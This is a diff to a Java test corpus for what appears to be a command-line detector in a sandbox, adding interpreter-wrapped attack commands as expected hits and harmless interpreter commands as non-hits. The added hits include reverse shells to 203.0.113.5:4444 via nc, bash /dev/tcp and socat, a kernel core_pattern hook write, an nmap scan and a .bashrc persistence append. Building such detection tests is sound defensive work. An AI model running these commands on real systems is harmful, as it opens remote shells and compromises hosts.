@@ -264,6 +264,15 @@ final class CommandLineCorpus {
                 hit(METADATA, "metadata.endpoint", "curl http://%31%36%39.254.169.254/"),
                 hit(METADATA, "metadata.endpoint", "curl http://user@0xA9FEA9FE:80/"),
                 hit(METADATA, "metadata.endpoint", "curl http://100.100.25800/latest/meta-data/"),
+                // commands handed to a shell from interpreter code
+                hit(REVERSE_SHELL, "reverse-shell.netcat-exec", "node -e 'require(\"child_process\").exec(\"nc -e sh 203.0.113.5 4444\")'"),
+                hit(REVERSE_SHELL, "reverse-shell.interactive-dev-tcp", "node -e 'const {execSync}=require(\"child_process\"); execSync(`bash -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"`)'"),
+                hit(REVERSE_SHELL, "reverse-shell.netcat-exec", "python3 -c 'import os; os.system(\"nc -e /bin/sh 203.0.113.5 4444\")'"),
+                hit(REVERSE_SHELL, "reverse-shell.netcat-exec", "python3 -c 'import subprocess; subprocess.call([\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.5\", \"4444\"])'"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "python3 -c 'import os; os.execlp(\"sh\", \"sh\", \"-c\", \"echo x > /proc/sys/kernel/core_pattern\")'"),
+                hit(PROBE, "probe.scanner", "python3 -c 'import subprocess; subprocess.run(\"nmap -sS 10.0.0.0/24\", shell=True)'"),
+                hit(REVERSE_SHELL, "reverse-shell.socat-exec", "perl -e 'system(\"socat tcp:203.0.113.5:4444 exec:/bin/sh\")'"),
+                hit(PERSISTENCE, "persistence.startup-file", "php -r 'shell_exec(\"echo hi >> ~/.bashrc\");'"),
                 // escape attempts from container-escape checklists (all refused by the sandbox; seen here)
                 hit(TAMPER, "tamper.escape.kernel-hook", "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern"),
                 hit(TAMPER, "tamper.escape.kernel-hook", "printf '|/tmp/x' | tee /proc/sys/kernel/core_pattern"),
@@ -461,6 +470,13 @@ final class CommandLineCorpus {
                 // numbers that are no metadata address, however they are read
                 "sleep 10", "git log -n 2852039 --oneline", "python3 -c 'print(0xa9fea9f)'", "curl http://10.1/health",
                 "ping -c 1 127.1", "echo 169.254.1.1", "",
+                // interpreter code that runs ordinary commands
+                "python3 -c 'import os; os.system(\"ls -la\")'",
+                "python3 -c 'import subprocess; print(subprocess.check_output([\"git\", \"status\"]))'",
+                "node -e 'require(\"child_process\").execSync(\"npm test\", {stdio: \"inherit\"})'",
+                "perl -e 'print `date`'",
+                "python3 -c 'print(\"mount -t proc is explained in the docs\")'",
+                "python3 -c 'exec(\"print(1)\")'",
                 // look-alikes of escape attempts and persistence: reading, listing, debugging one's own programs
                 "cat /proc/sys/kernel/core_pattern",
                 "sysctl kernel.core_pattern",
